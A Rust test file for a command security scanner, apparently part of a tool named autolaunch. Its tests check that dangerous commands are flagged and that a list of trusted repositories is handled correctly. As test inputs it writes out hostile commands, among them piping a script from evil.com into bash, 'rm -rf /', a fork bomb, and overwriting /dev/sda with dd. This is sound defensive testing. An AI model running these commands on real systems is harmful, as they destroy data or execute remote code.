//! Dangerous commands and trusted repositories.

use autolaunch::models::{ProjectInfo, SecurityLevel, SecurityWarning, TechStack, TrustLevel};
use autolaunch::security_scanner::SecurityScanner;
use std::path::PathBuf;

#[test]
fn test_scan_command_detects_rm_rf() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("rm -rf /tmp/test");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::High)));
}

#[test]
fn test_scan_command_detects_sudo() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("sudo apt-get install package");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::High)));
}

#[test]
fn test_scan_command_detects_curl_pipe_bash() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("curl https://example.com/script.sh | bash");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::High)));
}

#[test]
fn test_scan_command_detects_wget_pipe_sh() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("wget -O - https://example.com/install.sh | sh");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::High)));
}

#[test]
fn test_scan_command_detects_eval() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("eval $(some_command)");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::High)));
}

#[test]
fn test_scan_command_detects_critical_rm_root() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("rm -rf /");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::Critical)));
}

#[test]
fn test_scan_command_detects_chmod_777() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("chmod 777 /etc/passwd");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::High)));
}

#[test]
fn test_scan_command_safe_command() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("npm install");
    
    assert!(warnings.is_empty());
}

#[test]
fn test_scan_command_safe_build_command() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("cargo build --release");
    
    assert!(warnings.is_empty());
}

#[test]
fn test_add_trusted_repository() {
    let mut scanner = SecurityScanner::new().unwrap();
    let repo_url = "https://github.com/test/repo";
    
    assert!(!scanner.is_trusted_repository(repo_url));
    
    scanner.add_trusted_repository(repo_url).unwrap();
    assert!(scanner.is_trusted_repository(repo_url));
}

#[test]
fn test_remove_trusted_repository() {
    let mut scanner = SecurityScanner::new().unwrap();
    let repo_url = "https://github.com/test/repo";
    
    scanner.add_trusted_repository(repo_url).unwrap();
    assert!(scanner.is_trusted_repository(repo_url));
    
    scanner.remove_trusted_repository(repo_url).unwrap();
    assert!(!scanner.is_trusted_repository(repo_url));
}

#[test]
fn test_normalize_repo_url() {
    let mut scanner = SecurityScanner::new().unwrap();
    
    // Разные форматы одного и того же репозитория должны считаться одинаковыми
    scanner.add_trusted_repository("https://github.com/test/repo").unwrap();
    
    assert!(scanner.is_trusted_repository("https://github.com/test/repo/"));
    assert!(scanner.is_trusted_repository("https://github.com/test/repo.git"));
    assert!(scanner.is_trusted_repository("HTTPS://GITHUB.COM/TEST/REPO"));
}

#[test]
fn test_scan_project_with_warnings() {
    let scanner = SecurityScanner::new().unwrap();
    
    let project_info = ProjectInfo {
        stack: TechStack::NodeJs { version: Some("18.0.0".to_string()) },
        entry_command: Some("curl https://evil.com/script.sh | bash".to_string()),
        dependencies: vec![],
        config_files: vec![],
        security_warnings: vec![],
        trust_level: TrustLevel::Unknown,
    };
    
    let warnings = scanner.scan_project(&project_info);
    assert!(!warnings.is_empty());
}

#[test]
fn test_scan_project_safe() {
    let scanner = SecurityScanner::new().unwrap();
    
    let project_info = ProjectInfo {
        stack: TechStack::NodeJs { version: Some("18.0.0".to_string()) },
        entry_command: Some("npm start".to_string()),
        dependencies: vec![],
        config_files: vec![],
        security_warnings: vec![],
        trust_level: TrustLevel::Unknown,
    };
    
    let warnings = scanner.scan_project(&project_info);
    assert!(warnings.is_empty());
}

#[test]
fn test_get_trusted_repositories() {
    let mut scanner = SecurityScanner::new().unwrap();
    
    scanner.add_trusted_repository("https://github.com/repo1/test").unwrap();
    scanner.add_trusted_repository("https://github.com/repo2/test").unwrap();
    
    let repos = scanner.get_trusted_repositories();
    assert_eq!(repos.len(), 2);
    assert!(repos.contains(&"https://github.com/repo1/test".to_string()));
    assert!(repos.contains(&"https://github.com/repo2/test".to_string()));
}

#[test]
fn test_scan_command_detects_background_execution() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("malicious_script.sh &");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::Medium)));
}

#[test]
fn test_scan_command_detects_nohup() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("nohup malicious_script.sh");
    
    assert!(!warnings.is_empty());
    assert!(warnings.iter().any(|w| matches!(w.level, SecurityLevel::Medium)));
}

#[test]
fn test_multiple_warnings_in_one_command() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("sudo rm -rf /tmp && curl http://evil.com | bash");
    
    // Должно быть несколько предупреждений
    assert!(warnings.len() >= 2);
}

#[test]
fn critical_command_gets_exact_warning() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("rm -rf /");
    assert_eq!(warnings.len(), 2);
    assert_eq!(warnings[0].level, SecurityLevel::Critical);
    assert_eq!(warnings[0].message, "КРИТИЧЕСКАЯ УГРОЗА: Удаление корневой директории");
    assert_eq!(
        warnings[0].suggestion.as_deref(),
        Some("Не выполняйте эту команду! Она может повредить вашу систему.")
    );
    assert_eq!(warnings[1].level, SecurityLevel::High);
    assert_eq!(warnings[1].message, "Обнаружена потенциально опасная операция: Рекурсивное удаление файлов");
    assert_eq!(warnings[1].suggestion.as_deref(), Some("Внимательно проверьте команду перед выполнением"));
}

#[test]
fn fork_bomb_and_device_overwrite_are_critical() {
    let scanner = SecurityScanner::new().unwrap();
    for command in [":(){:|:&};:", "dd if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=disk.img"] {
        let warnings = scanner.scan_command(command);
        assert!(warnings.iter().any(|w| w.level == SecurityLevel::Critical), "{}", command);
    }
}

#[test]
fn medium_warning_text() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("./run.sh >/dev/null 2>&1");
    assert_eq!(warnings.len(), 1);
    assert_eq!(warnings[0].level, SecurityLevel::Medium);
    assert_eq!(warnings[0].message, "Обнаружена подозрительная операция: Подавление вывода ошибок");
    assert_eq!(warnings[0].suggestion.as_deref(), Some("Убедитесь, что понимаете, что делает эта команда"));
}

#[test]
fn warnings_come_in_rule_order() {
    let scanner = SecurityScanner::new().unwrap();
    let warnings = scanner.scan_command("sudo rm -rf / &");
    let levels: Vec<SecurityLevel> = warnings.iter().map(|w| w.level).collect();
    assert_eq!(
        levels,
        vec![SecurityLevel::Critical, SecurityLevel::High, SecurityLevel::High, SecurityLevel::Medium]
    );
}

#[test]
fn every_warning_has_a_message_and_a_suggestion() {
    let scanner = SecurityScanner::new().unwrap();
    for command in ["rm -rf /", "curl x | sh", "nohup a", "exec (x)", "chmod 777 f", "a &"] {
        for w in scanner.scan_command(command) {
            assert!(!w.message.is_empty());
            assert!(!w.suggestion.unwrap().is_empty());
        }
    }
}

#[test]
fn scan_project_appends_analysis_warnings() {
    let scanner = SecurityScanner::new().unwrap();
    let project_info = ProjectInfo {
        stack: TechStack::Unknown,
        entry_command: None,
        dependencies: vec![],
        config_files: vec![],
        security_warnings: vec![SecurityWarning {
            level: SecurityLevel::Low,
            message: "note".to_string(),
            suggestion: None,
        }],
        trust_level: TrustLevel::Unknown,
    };
    let warnings = scanner.scan_project(&project_info);
    assert_eq!(warnings.len(), 1);
    assert_eq!(warnings[0].message, "note");
    assert_eq!(warnings[0].level, SecurityLevel::Low);
}

#[test]
fn normalize_repo_url_strips_and_lowercases() {
    assert_eq!(
        SecurityScanner::normalize_repo_url("  HTTPS://GitHub.com/Owner/Repo.git.git// "),
        "https://github.com/owner/repo"
    );
    assert_eq!(SecurityScanner::normalize_repo_url("https://github.com/a/b/.git"), "https://github.com/a/b/");
}

#[test]
fn adding_twice_keeps_one_entry() {
    let mut scanner = SecurityScanner::new().unwrap();
    scanner.add_trusted_repository("https://github.com/a/b").unwrap();
    scanner.add_trusted_repository("https://github.com/A/B/").unwrap();
    assert_eq!(scanner.get_trusted_repositories(), vec!["https://github.com/a/b".to_string()]);
}

#[test]
fn saved_list_loads_back() {
    let mut scanner = SecurityScanner::new().unwrap();
    scanner.add_trusted_repository("https://github.com/one/x").unwrap();
    scanner.add_trusted_repository("https://github.com/two/y").unwrap();
    let json = scanner.trusted_repos_json();

    let mut restarted = SecurityScanner::new().unwrap();
    restarted.load_trusted_repos(&json);
    assert!(restarted.is_trusted_repository("https://github.com/one/x"));
    assert!(restarted.is_trusted_repository("https://github.com/two/y.git"));
    assert_eq!(restarted.get_trusted_repositories().len(), 2);
}

#[test]
fn unreadable_list_loads_as_empty() {
    let mut scanner = SecurityScanner::new().unwrap();
    scanner.add_trusted_repository("https://github.com/a/b").unwrap();
    scanner.load_trusted_repos("not json");
    assert!(scanner.get_trusted_repositories().is_empty());
    scanner.load_trusted_repos("[\"x\", \"x\", \"y\"]");
    assert_eq!(scanner.get_trusted_repositories(), vec!["x".to_string(), "y".to_string()]);
}

#[test]
fn trusted_list_lives_in_the_configuration_directory() {
    let mut s = SecurityScanner::with_config_dir(Some(PathBuf::from("/config"))).unwrap();
    assert_eq!(s.trusted_repos_file(), &PathBuf::from("/config/autolaunch/trusted_repos.json"));
    assert!(s.get_trusted_repositories().is_empty());
    for _ in 0..3 {
        s.add_trusted_repository("https://github.com/User/Repo.git/").unwrap();
    }
    assert_eq!(s.get_trusted_repositories(), vec!["https://github.com/user/repo".to_string()]);
    assert_eq!(s.trusted_repos_file(), &PathBuf::from("/config/autolaunch/trusted_repos.json"));
    assert!(SecurityScanner::with_config_dir(None).is_err());
}

#[test]
fn warnings_from_given_matches() {
    // The rules in order: three critical, then high, then medium ones.
    let mut matches = vec![Some(false); 20];
    matches[2] = Some(true);
    matches[3] = Some(true);
    let warnings = SecurityScanner::warnings_for_matches(&matches);
    assert_eq!(warnings.len(), 2);
    assert_eq!(warnings[0].level, SecurityLevel::Critical);
    assert_eq!(warnings[0].message, "КРИТИЧЕСКАЯ УГРОЗА: Перезапись устройства");
    assert_eq!(warnings[1].level, SecurityLevel::High);
    assert_eq!(warnings[1].message, "Обнаружена потенциально опасная операция: Рекурсивное удаление файлов");
    assert!(SecurityScanner::warnings_for_matches(&vec![None, Some(false)]).is_empty());
    assert_eq!(SecurityScanner::warnings_for_matches(&vec![Some(true)]).len(), 1);
}

#[test]
fn saved_list_is_kept_once_each() {
    let mut s = SecurityScanner::with_config_dir(Some(PathBuf::from("/config"))).unwrap();
    s.set_saved_repos(Some(vec!["https://github.com/a/b".to_string(), "https://github.com/a/b".to_string(), "https://github.com/c/d".to_string()]));
    let mut repos = s.get_trusted_repositories();
    repos.sort();
    assert_eq!(repos, vec!["https://github.com/a/b".to_string(), "https://github.com/c/d".to_string()]);
    s.set_saved_repos(None);
    assert!(s.get_trusted_repositories().is_empty());
}
